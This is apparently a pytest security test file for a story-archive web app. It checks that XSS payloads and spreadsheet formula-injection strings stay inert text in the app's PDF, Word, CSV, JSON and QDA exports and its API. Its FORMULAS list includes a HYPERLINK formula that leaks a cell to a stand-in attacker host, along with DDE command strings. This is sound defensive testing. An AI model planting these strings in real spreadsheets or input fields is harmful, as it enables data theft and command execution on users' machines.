"""A fixed sample of the XSS corpus, with spreadsheet formulas, typed into a story, its site, the
codebook and an event's pack, comes out literal and inert in every file the app makes: the PDF
and Word pack, the research exports (CSV, JSON, REFI-QDA .qdpx), the codebook CSV and the API."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
import zipfile
from datetime import date

import docx
import pytest
from flask import url_for
from lxml import etree
from pypdf import PdfReader

from storybank.anonymise.services import released_text
from storybank.api.tokens import create_token
from storybank.curate import builder
from storybank.curate import events as event_services
from storybank.extensions import db
from storybank.stories.services import approve_story
from storybank.tag.services import current_codebook
from storybank.tag.services import save_theme
from tests.conftest import login
from tests.security.hostile.xss_corpus import sampled_payloads

# Without NUL: only the story body removes it, and PostgreSQL refuses it (test_known_gaps.py).
SAMPLE = [payload.replace("\x00", "") for payload in sampled_payloads()]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "-",
    "=",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", " =", "\uff1d")
OPENING = "The allotment shed had a new lock and a rota pinned to the door."
CSV_KINDS = ("stories_csv", "excerpts_csv", "matrix_csv")


def skeleton(text: str) -> str:
    """The ASCII letters and digits of a text, in order (what any faithful copy keeps)."""
    return "".join(c for c in unicodedata.normalize("NFKC", text) if c.isascii() and c.isalnum())


def cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_cell_runs(data: bytes) -> list[str]:
    found = cells(data)
    assert found, "the CSV has cells"
    running = [cell for cell in found if cell.startswith(FORMULA_STARTS)]
    assert running == []
    return found


@pytest.fixture
def world(factories):
    f = factories
    admin, reporter = f.user("admin"), f.user("reporter")
    facilitator, researcher = f.user("facilitator"), f.user("researcher")
    site = f.site(FORMULAS[1])
    body = "\n".join([OPENING, *(f"On the rota someone wrote {p} in pencil." for p in SAMPLE)])
    body += "\n" + "\n".join(f"{p} was chalked on the wall." for p in FORMULAS if p.strip())
    story = f.story(reporter, status="in_review", site=site, text=body)
    approve_story(admin, story.id)
    for n, payload in enumerate(FORMULAS[:4] + SAMPLE[:4]):
        save_theme(
            admin,
            key=f"hostile_{n}",
            name=payload.strip()[:80] or "A theme",
            definition=payload.strip() or "A definition",
            indicators=[payload],
            positive_examples=[payload],
            negative_examples=[payload],
        )
    theme_keys = [t.key for t in current_codebook().themes if not t.retired]
    event = event_services.create_event(
        facilitator,
        event_services.EventDetails(
            title=SAMPLE[0].strip()[:200],
            held_on=date(2031, 4, 3),
            place=SAMPLE[1].strip()[:200],
            facilitator_id=facilitator.id,
            audience="\n".join(SAMPLE[:10]),
            notes="\n".join(SAMPLE),
        ),
    )
    builder.save_pack_plan(
        facilitator,
        event.id,
        theme_keys,
        {key: "\n".join(SAMPLE[n::4]) for n, key in enumerate(theme_keys)},
        "\n".join(SAMPLE),
    )
    builder.add_story_to_pack(facilitator, event.id, story.id, "\n".join(SAMPLE))
    builder.save_story_notes(facilitator, event.id, story.id, "\n".join(SAMPLE), "\n".join(SAMPLE))
    secret = create_token(researcher, '=HYPERLINK("x")<script>').secret
    db.session.refresh(story)
    return {
        "app": f.app,
        "admin": admin,
        "facilitator": facilitator,
        "researcher": researcher,
        "story": story,
        "event": event,
        "released": released_text(story).text,
        "secret": secret,
    }


def client_for(world, who):
    client = world["app"].test_client()
    assert login(client, world[who].email).status_code == 302
    return client


def urls(world, endpoint: str, **values) -> str:
    with world["app"].test_request_context():
        return url_for(endpoint, **values)


def pdf_pieces(payload: str) -> list[str]:
    """The payload's skeleton cut at the letter pairs fonts print as one ligature glyph, which
    PDF text extraction reads back as some other character."""
    parts = re.split(r"[\x00-\x1f\x7f]", payload)  # a control character prints as a stray glyph
    return [piece for part in parts for piece in re.split("fi|fl|ff", skeleton(part)) if piece]


def test_pack_pdf_shows_every_payload_as_text_and_holds_no_script_or_link(world):
    client = client_for(world, "facilitator")
    response = client.get(urls(world, "events.download", event_id=world["event"].id, kind="pdf"))
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    reader = PdfReader(io.BytesIO(response.data))
    text = skeleton("".join(page.extract_text() for page in reader.pages))
    missing = [p for p in SAMPLE if not all(piece in text for piece in pdf_pieces(p))]
    assert missing == []
    root = reader.trailer["/Root"]
    assert "/OpenAction" not in root and "/AA" not in root
    assert "/JavaScript" not in root.get("/Names", {})
    for page in reader.pages:
        assert "/AA" not in page
        for annotation in page.get("/Annots", []) or []:
            action = annotation.get_object().get("/A", {})
            assert action.get("/S") not in ("/JavaScript", "/Launch", "/URI", "/SubmitForm")
    assert b"/JavaScript" not in response.data and b"/Launch" not in response.data


def test_pack_docx_shows_every_payload_as_text_and_links_nowhere(world):
    client = client_for(world, "facilitator")
    response = client.get(urls(world, "events.download", event_id=world["event"].id, kind="docx"))
    assert response.status_code == 200
    document = docx.Document(io.BytesIO(response.data))
    paragraphs = [p.text for p in document.paragraphs]
    paragraphs += [c.text for t in document.tables for r in t.rows for c in r.cells]
    text = skeleton("".join(paragraphs))
    assert [p for p in SAMPLE if skeleton(p) not in text] == []
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        for name in archive.namelist():
            if name.endswith(".rels"):
                assert b'TargetMode="External"' not in archive.read(name), name
            if name.endswith(".xml"):
                etree.fromstring(archive.read(name))  # well-formed
        assert not [n for n in archive.namelist() if n.endswith((".bin", "vbaProject.bin"))]


@pytest.mark.parametrize("kind", CSV_KINDS)
def test_research_csv_keeps_formulas_as_quoted_text(world, kind):
    client = client_for(world, "researcher")
    response = client.get(urls(world, "exports.download", kind=kind), buffered=True)
    assert response.status_code == 200
    found = assert_no_cell_runs(response.data)
    if kind == "stories_csv":
        assert "'" + FORMULAS[1] in found, "the site's name is kept, quoted"
        released = [cell for cell in found if cell.startswith(OPENING)]
        assert released, "the released text is one cell"


def test_codebook_csv_keeps_formulas_as_quoted_text(world):
    client = client_for(world, "admin")
    response = client.get(urls(world, "themes.codebook_as_csv"))
    assert response.status_code == 200
    found = assert_no_cell_runs(response.data)
    for payload in FORMULAS[:4]:
        assert "'" + payload.strip() in found


def test_json_export_and_api_give_the_released_text_literally(world):
    client = client_for(world, "researcher")
    response = client.get(urls(world, "exports.download", kind="json"), buffered=True)
    assert response.status_code == 200
    exported = json.loads(response.data)
    assert world["released"] in json.dumps(exported, ensure_ascii=False) or any(
        world["released"] == value for value in _strings(exported)
    )
    assert "<script>" in world["released"], "the sample holds raw markup, kept as text"

    api = world["app"].test_client()
    headers = {"Authorization": f"Bearer {world['secret']}"}
    found = api.get(urls(world, "api.stories"), headers=headers)
    assert found.status_code == 200 and found.mimetype == "application/json"
    ids = [item["story_id"] for item in found.get_json()["results"]]
    assert len(ids) == 1
    one = api.get(urls(world, "api.story", public_id=ids[0]), headers=headers)
    assert one.status_code == 200 and one.mimetype == "application/json"
    assert world["released"] in _strings(one.get_json())
    codebook = api.get(urls(world, "api.codebook"), headers=headers).get_json()
    names = set(_strings(codebook))
    assert {p.strip()[:80] for p in FORMULAS[:4] + SAMPLE[:4]} <= names


def _strings(value) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


def test_qdpx_is_well_formed_and_holds_the_released_text_literally(world):
    client = client_for(world, "researcher")
    response = client.get(urls(world, "exports.download", kind="qdpx"), buffered=True)
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        names = archive.namelist()
        project = etree.fromstring(archive.read("project.qde"))
        texts = [archive.read(n).decode("utf-8") for n in names if n.endswith(".txt")]
    assert project is not None
    xml_text = etree.tostring(project, encoding="unicode")
    assert "<script>" not in xml_text, "markup in the text is escaped in the XML"
    held = (
        texts
        + [e.text or "" for e in project.iter() if isinstance(e.tag, str) and e.text]
        + [v for e in project.iter() if isinstance(e.tag, str) for v in e.attrib.values()]
    )
    control = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
    wanted = control.sub("", world["released"])
    assert any(wanted in control.sub("", t) for t in held)
